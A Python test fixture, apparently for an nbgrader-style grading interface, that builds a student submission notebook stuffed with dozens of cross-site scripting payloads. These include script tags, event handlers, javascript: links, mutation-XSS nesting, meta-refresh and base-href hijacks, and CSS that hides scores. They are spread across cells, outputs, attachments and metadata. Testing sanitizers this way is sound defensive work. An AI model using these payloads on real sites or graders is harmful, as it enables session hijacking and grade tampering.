"""A problem set, and what somebody hands in who wants to run a script in the grader's browser.

Every attack, if it works, adds its name and a `!` to the title of the page, or asks a server of
ours for its name.
"""

from __future__ import annotations

import base64
import json
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

PICTURE = (  # one transparent pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
ROLE = {"schema_version": 3, "locked": False, "task": False, "grade": False, "solution": False}
CHECK = """from hintgrader.worker.points import Points, Row
rows = (Row("is it `softmax`", 2), Row("is it stable", 1, "nan < 1, given `scores`"))
Points(rows, "subtract the maximum")"""


def problem_set() -> nbformat.NotebookNode:
    """Return a source with a part in code and a part in words."""
    code = ROLE | {"solution": True, "grade_id": "softmax"}
    check = ROLE | {"grade": True, "grade_id": "softmax-check", "points": 3, "locked": True}
    words = ROLE | {"solution": True, "grade": True, "grade_id": "words", "points": 2}
    return new_notebook(
        cells=[
            new_markdown_cell("# A set", id="title"),
            new_markdown_cell("## Part A. Softmax", id="part-a"),
            new_code_cell("### BEGIN SOLUTION\n1\n### END SOLUTION", metadata={"nbgrader": code}),
            new_code_cell(CHECK, metadata={"nbgrader": check}),
            new_markdown_cell("## Part B. In words", id="part-b"),
            new_markdown_cell("Because.", metadata={"nbgrader": words}),
        ]
    )


def script(name: str, base: str) -> str:
    """Return the script that each attack wants to run."""
    return f"document.title+='{name}!';new Image().src='{base}/{name}'"


def markup(base: str) -> dict[str, str]:
    """Attacks that are HTML, for a cell of text, for an output, and for a comment."""

    def run(name: str) -> str:
        return script(name, base)

    return {
        "script": f"<script>{run('script')}</script>",
        "cased": f"<ScRiPt >{run('cased')}</sCrIpT >",
        "onerror": f'<img src="nowhere" onerror="{run("onerror")}">',
        "slashes": f'<img/src="nowhere"/onerror="{run("slashes")}">',
        "onload": f'<svg onload="{run("onload")}"></svg>',
        "svg": f"<svg><script>{run('svg')}</script></svg>",
        "animate": '<svg><a xlink:href="javascript:0"><animate attributeName="href" '
        f'values="javascript:{run("animate")}"/><text y="20">open</text></a></svg>',
        "details": f'<details open ontoggle="{run("details")}">open</details>',
        "focus": f'<input autofocus onfocus="{run("focus")}">',
        "math": "<math><mtext><table><mglyph><style><img title='</style><img src=n onerror="
        f"{run('math').replace(chr(39), chr(96))}>'></style></mglyph></table></mtext></math>",
        "frame": f'<iframe srcdoc="<script>parent.{run("frame")}</script>"></iframe>',
        "data": f'<iframe src="data:text/html,<img src={base}/data>"></iframe>',
        "object": f'<object data="{base}/object"></object><embed src="{base}/embed">',
        "picture": f'<img src="{base}/picture" alt="a picture">',
        "set": f'<picture><source srcset="{base}/set"><img alt=""></picture>',
        "media": f'<video src="{base}/media" autoplay poster="{base}/poster"></video>',
        "style": f"<style>body{{background:url({base}/style)}} .panel-heading,.score,"
        "td{display:none!important}</style>",
        "import": f"<link rel=stylesheet href='{base}/import'>",
        "inline": f'<p style="position:fixed;inset:0;background:url({base}/inline)">over</p>',
        "cover": '<div class="modal-backdrop navbar-fixed-top" style="height:9999px">over</div>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={base}/refresh">',
        "base": f'<base href="{base}/base/">',
        "form": f'<form action="{base}/form"><button>open</button></form>',
        "link": f'<a href="javascript:{run("link")}">open</a>',
        "tab": f'<a href="java&#9;script:{run("tab")}">open</a>',
        "files": '<a href="page.html">open</a><a href="/formgrader/?path=/tmp">open</a>',
        "id": '<a id="softmax-check" name="top"></a><input id="softmax-check" value="3">',
        "close": f"</pre></div></textarea></title><script>{run('close')}</script>",
        "config": f'<script type="text/x-mathjax-config">{run("config")}</script>',
        "comment": f"<!--><script>{run('comment')}</script>-->",
        "noscript": f'<noscript><p title="</noscript><img src=n onerror={run("noscript")}>">',
    }


def markdown(base: str) -> dict[str, str]:
    """Attacks that Markdown makes into HTML."""

    def run(name: str) -> str:
        return script(name, base).replace("'", "&quot;")

    return {
        "address": f"[open](javascript:{run('address')})",
        "reference": f"[open][r]\n\n[r]: <javascript:{run('reference')}>",
        "auto": f"<javascript:{run('auto')}>",
        "remote": f"![a picture]({base}/remote)",
        "own": "![a picture](/formgrader/?path=/tmp)",
        "missing": "![lost](attachment:lost.png)",
        "mermaid": f"```mermaid\n<script>{script('mermaid', base)}</script>\n```",
        "code": f"```html\n</code></pre><script>{script('code', base)}</script>\n```",
        "href": f"$\\href{{javascript:{run('href')}}}{{open}}$",
        "formula": f"$x</p><script>{script('formula', base)}</script>$ and $a < b$",
        "wide": f"${'x +' * 100}x$ and $${'y +' * 400}y$$",
        "word": f"{'w' * 3000} and `{'c' * 3000}`",
        "environment": f"\\begin{{align}}<img src=n onerror={run('environment')}>\\end{{align}}",
    }


def outputs(base: str) -> list[dict[str, Any]]:
    """Return a cell's outputs: each kind of data that a page of nbgrader would show alive."""
    vector = (
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script('image', base)}</script></svg>"
    )
    attribute = "1 onload=document.title+=`width!`"
    filenames = {"image/png": f"{base}/filenames"}
    html = [{"data": {"text/html": text}} for text in markup(base).values()]
    text = [{"data": {"text/markdown": text}} for text in markdown(base).values()]
    return [
        *html,
        *text,
        {
            "data": {"text/html": markup(base)["data"]},
            "metadata": {"text/html": {"isolated": True}},
        },
        {"data": {"application/javascript": script("javascript", base)}},
        {"data": {"text/javascript": script("text-javascript", base)}},
        {"data": {"image/svg+xml": vector}},
        {"data": {"image/svg+xml": f"<svg><image href='{base}/vector'/></svg>"}},
        {"data": {"image/png": PICTURE}, "metadata": {"image/png": {"width": attribute}}},
        {"data": {"image/png": PICTURE}, "metadata": {"filenames": filenames}},
        {"data": {"image/png": f'" src=n onerror={script("quote", base)} x="'}},
        {"data": {"text/latex": f"$x</p><script>{script('latex', base)}</script>$"}},
        {"data": {"text/plain": f"<script>{script('plain', base)}</script>"}},
        {"data": {"text/vnd.mermaid": f"<script>{script('diagram', base)}</script>"}},
        {
            "data": {
                "application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}
            }
        },
    ]


def answer(base: str) -> str:
    """The code of a cell that displays all of it, and fails."""
    shown = json.dumps(json.dumps(outputs(base)))
    return (
        "import json, sys\nfrom IPython.display import publish_display_data\n"
        f"for shown in json.loads({shown}):\n    publish_display_data(**shown)\n"
        f"print({markup(base)['script']!r})\nprint({markup(base)['onerror']!r}, file=sys.stderr)\n"
        f"raise ValueError({markup(base)['slashes']!r})"
    )


def hand_in(released: nbformat.NotebookNode, base: str) -> dict[str, Any]:
    """The released notebook with every attack in it, as JSON; not all of it is as it should be."""
    notebook = json.loads(json.dumps(released))
    live = markup(base)
    cells = {
        cell["metadata"].get("nbgrader", {}).get("grade_id"): cell for cell in notebook["cells"]
    }
    cells["softmax"]["source"] = answer(base)
    cells["softmax"]["metadata"]["tags"] = [f'">{live["script"]}']
    cells["words"]["source"] = "\n\n".join([*live.values(), *markdown(base).values()])
    vector = base64.b64encode(b"<svg onload='parent.document.title+=1'/>").decode()
    attachments = {"a.svg": {'image/svg+xml;,"onerror="x': vector}, "b": {"text/html": vector}}
    extra = [
        {"cell_type": "markdown", "source": text}
        for text in [*live.values(), *markdown(base).values()]
    ]
    extra.append(
        {
            "cell_type": "markdown",
            "source": "![a](attachment:a.svg) ![b](attachment:b)",
            "attachments": attachments,
        }
    )
    raw = {"raw_mimetype": "text/html", "format": "text/html"}
    extra += [{"cell_type": "raw", "source": text, "metadata": raw} for text in live.values()]
    for number, cell in enumerate(extra):
        notebook["cells"].append({"metadata": {}, "id": f"extra-{number}"} | cell)
    state = {"state": {"a": {}}, "x": f"</script>{live['script']}"}
    notebook["metadata"] |= {
        "title": f"</title>{live['script']}",
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
        "kernelspec": {"name": "python3", "display_name": live["script"], "language": "python"},
    }
    return notebook
